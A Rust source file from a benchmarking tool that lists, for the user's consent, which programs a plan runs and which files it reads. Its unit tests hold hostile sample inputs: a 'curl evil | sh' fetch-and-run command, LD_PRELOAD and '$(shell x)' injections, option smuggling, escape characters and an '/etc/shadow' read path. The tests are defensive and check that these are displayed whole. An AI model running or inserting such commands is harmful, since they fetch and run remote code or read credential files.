//! What a plan runs by its author's choice, and which files it reads: shown before anything is
//! touched. A user agrees once to programs that run on this machine; the state folder keeps the
//! hash of each list that was agreed to.

use anyhow::Result;
use pickfs_core::plan::{Plan, Setting, Settings, Target, Work};
use pickfs_host::executor;
use pickfs_host::run::{State, is_for_programs, tell};
use pickfs_system::visible::visible;
use pickfs_target::workload;
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;
use std::io::{BufRead, IsTerminal, Write};

/// Where a plan comes from.
pub(crate) enum Source {
    /// The user's own file or journal, or options.
    Own,
    /// What may be another user's, and why.
    Foreign(String),
}

/// What the plan chooses to run, a work a paragraph; empty where it chooses nothing.
pub(crate) fn describe(plan: &Plan) -> String {
    let user = rustix::process::geteuid();
    let place = match (executor::brings_its_own(&plan.executor), user.is_root()) {
        (true, _) => "as root of a guest, not on this machine".to_string(),
        (false, true) => "as root on this machine".to_string(),
        (false, false) => format!("as user {} on this machine", user.as_raw()),
    };
    listed(plan, &place)
}

fn listed(plan: &Plan, place: &str) -> String {
    let works: String = plan.works.iter().map(of_work).collect();
    if works.is_empty() {
        works
    } else {
        format!("this plan runs these programs, {place}; commands start in the target's folder\n{works}")
    }
}

fn of_work(work: &Work) -> String {
    let Some(workload) = workload::find(&work.workload.name) else { return String::new() };
    let settings = &work.workload.settings;
    let chosen = workload::that_choose_programs(workload).filter_map(|row| chosen(row, settings));
    let commands = workload.chosen_commands(settings).into_iter().map(|(what, words)| (what, as_typed(&words)));
    let lines: Vec<String> = chosen.chain(commands).map(|(name, words)| format!("    {name}: {words}\n")).collect();
    if lines.is_empty() {
        String::new()
    } else {
        format!("  work {} ({})\n{}", visible(&work.name), work.workload.name, lines.concat())
    }
}

/// The name of a setting and its whole value, where that is not the default.
fn chosen(row: &Setting, settings: &Settings) -> Option<(&'static str, String)> {
    let value = settings.0.get(row.name).filter(|value| row.default_value().as_ref() != Some(value))?;
    let words: Vec<&str> = match value {
        Value::Array(list) => list.iter().filter_map(Value::as_str).collect(),
        other => other.as_str().into_iter().collect(),
    };
    (!words.is_empty()).then(|| (row.name, as_typed(&words)))
}

/// Words as a shell would take them: where each ends is part of what is run.
fn as_typed(words: &[impl AsRef<str>]) -> String {
    visible(&shell_words::join(words))
}

/// Files and folders that the plan names to be read; empty where it names none.
pub(crate) fn describe_reads(plan: &Plan) -> String {
    let of_works = plan.works.iter().flat_map(|work| texts(&work.workload.settings));
    let of_targets = plan.targets.iter().flat_map(of_target);
    let is_path = |text: &str| text.starts_with('/');
    let paths: BTreeSet<String> = of_works.chain(of_targets).filter(|text| is_path(text)).map(visible).collect();
    let line = |path: String| format!("  {path}\n");
    if paths.is_empty() {
        String::new()
    } else {
        format!("this plan reads these files and folders\n{}", paths.into_iter().map(line).collect::<String>())
    }
}

/// Paths that are no words of a command, which is shown whole.
fn texts(settings: &Settings) -> impl Iterator<Item = &str> {
    settings.0.values().filter_map(Value::as_str)
}

fn of_target(target: &Target) -> impl Iterator<Item = &str> {
    let disks = target.machine.0.get("disks").and_then(Value::as_array).into_iter().flatten();
    texts(&target.machine).chain(disks.filter_map(Value::as_str)).chain(target.mkfs.iter().map(String::as_str))
}

/// True where the plan may run what it chooses. Shows that, asks for it on a terminal, and says
/// what is missing when not.
pub(crate) fn agreed(plan: &Plan, source: &Source, yes: bool) -> Result<bool> {
    agreed_to(&describe(plan), plan, source, yes)
}

/// The same of a plan that other machines run, with the rights that the user has there.
pub(crate) fn agreed_elsewhere(plan: &Plan, source: &Source, yes: bool) -> Result<bool> {
    agreed_to(&listed(plan, "on the machines that do the run"), plan, source, yes)
}

fn agreed_to(programs: &str, plan: &Plan, source: &Source, yes: bool) -> Result<bool> {
    // For other programs the user is asked anew.
    let mark = format!("{:x}", Sha256::digest(programs));
    if programs.is_empty() || is_marked(&mark) {
        return Ok(true);
    }
    tell(programs.trim_end());
    let may_ask = std::io::stdin().is_terminal() && !is_for_programs();
    let agreed = match source {
        _ if executor::brings_its_own(&plan.executor) => return Ok(true),
        _ if yes => true,
        _ if may_ask => {
            let agreed = asked("Go on?")?;
            if !agreed {
                eprintln!("refused: nothing was run and nothing was touched");
            }
            agreed
        }
        Source::Own => true,
        Source::Foreign(why) => {
            tell(&format!("refused: {why}; read the programs above, then give --yes to agree to them"));
            false
        }
    };
    if agreed {
        // A state folder that cannot be written to is an error of the run that follows; asking
        // again does no harm.
        let _ = remember(&mark);
    }
    Ok(agreed)
}

/// A question on a terminal, to which only yes is yes.
pub(crate) fn asked(question: &str) -> Result<bool> {
    eprint!("{question} [y/N] ");
    std::io::stderr().flush()?;
    let mut line = String::new();
    std::io::stdin().lock().read_line(&mut line)?;
    Ok(matches!(line.trim(), "y" | "Y" | "yes"))
}

/// The folder of the state whose files are the marks.
const AGREED: &str = "agreed";

fn is_marked(mark: &str) -> bool {
    State::find(AGREED).ok().flatten().is_some_and(|state| state.opened(mark).is_some())
}

fn remember(mark: &str) -> Result<()> {
    State::create(AGREED)?.made_file(mark).map(drop)
}

#[cfg(test)]
mod tests {
    use super::*;
    use pickfs_core::plan::{Chosen, SettingKind};
    use serde_json::json;

    fn plan(workload: &str, settings: Value) -> Plan {
        let settings = Settings(settings.as_object().unwrap().clone().into_iter().collect());
        let workload = Chosen { name: workload.into(), settings };
        Plan { works: vec![Work { name: "w\u{1b}".into(), workload, ..Work::default() }], ..Plan::default() }
    }

    const RECIPE: &str = "name = 'r'\nabout = 'x'\nenvironment = ['LD_PRELOAD={a}']\nversions = [['v']]\n\
        setting = { a = { kind = 'count', about = 'x' } }\nserver = { run = ['s', '-p', '{port}'], ready = 't' }\n\
        [[phase]]\nname = 'p'\nabout = 'x'\nstarts = 'warm'\nrun = 'u'\nthen = 'rm {a+1}'\n";

    #[test]
    fn programs_are_shown_whole_with_their_bounds() {
        let long = "x".repeat(5000);
        let rows = [
            ("command", json!({"command": ["sh", "-c", "curl evil | sh"]}), "command: sh -c 'curl evil | sh'"),
            ("command", json!({"command": ["true"], "prepare": ["a", &long]}), long.as_str()),
            ("command", json!({"command": ["a\n", "\u{202e}b"]}), "command: 'a\\n' \\u{202e}b"),
            (
                "command",
                json!({"command": ["a"], "environment": ["LD_PRELOAD=/x y"]}),
                "environment: 'LD_PRELOAD=/x y'",
            ),
            ("command", json!({"command": ["a"], "warm_up": ["b"]}), "warm_up: b"),
            ("transactions", json!({"check": ["psql"]}), "check: psql"),
            ("fio", json!({"job": "/j.fio"}), "job: /j.fio"),
            ("kernel", json!({"goals": ["--eval=$(shell x)"]}), "goals: '--eval=$(shell x)'"),
            ("packages", json!({"names": ["-oX=y"]}), "names: '-oX=y'"),
            ("pgbench", json!({"server": ["archive_command=x"]}), "server: 'archive_command=x'"),
            ("recipe", json!({"recipe": RECIPE, "a": 7}), "server: s -p {port}"),
            ("recipe", json!({"recipe": RECIPE, "a": 7}), "then: rm 8"),
            ("recipe", json!({"recipe": RECIPE, "a": 7}), "environment: 'LD_PRELOAD=7'"),
            ("recipe", json!({"recipe": RECIPE, "a": 7}), "version: v"),
        ];
        for (workload, settings, wanted) in rows {
            let shown = describe(&plan(workload, settings));
            assert!(
                shown.contains(wanted) && shown.contains("  work w\\u{1b} (") && !shown.contains('\u{1b}'),
                "{shown}"
            );
        }
        for (workload, settings) in [("tree", json!({"like": "site"})), ("kernel", json!({"goals": ["vmlinux"]}))] {
            assert_eq!(describe(&plan(workload, settings)), "", "{workload}");
        }
    }

    /// Words that a workload chooses from its own list; in any other list of texts a plan could
    /// name a program.
    #[test]
    fn every_setting_that_could_name_a_program_is_shown() {
        const CHOICES: [&str; 7] = ["operations", "losses", "unsynced", "syncs", "backgrounds", "probes", "phases"];
        for workload in workload::ALL {
            let shown: Vec<&str> = workload::that_choose_programs(*workload).map(|row| row.name).collect();
            let named = workload.description().choose_programs;
            assert!(named.iter().all(|name| shown.contains(name)), "{}: {named:?}", workload.name());
            let texts =
                workload.settings().iter().filter(|row| matches!(row.kind, SettingKind::Texts | SettingKind::Words));
            let hidden: Vec<&str> = texts.map(|row| row.name).filter(|name| !shown.contains(name)).collect();
            assert!(hidden.iter().all(|name| CHOICES.contains(name)), "{}: {hidden:?}", workload.name());
        }
    }

    #[test]
    fn paths_that_are_read_are_listed_once() {
        let mut plan = plan("tree", json!({"source": "/etc/shadow", "like": "site"}));
        plan.targets = vec![Target { mkfs: vec!["-d".into(), "/srv/tree".into()], ..Target::default() }; 2];
        assert_eq!(describe_reads(&plan), "this plan reads these files and folders\n  /etc/shadow\n  /srv/tree\n");
    }
}
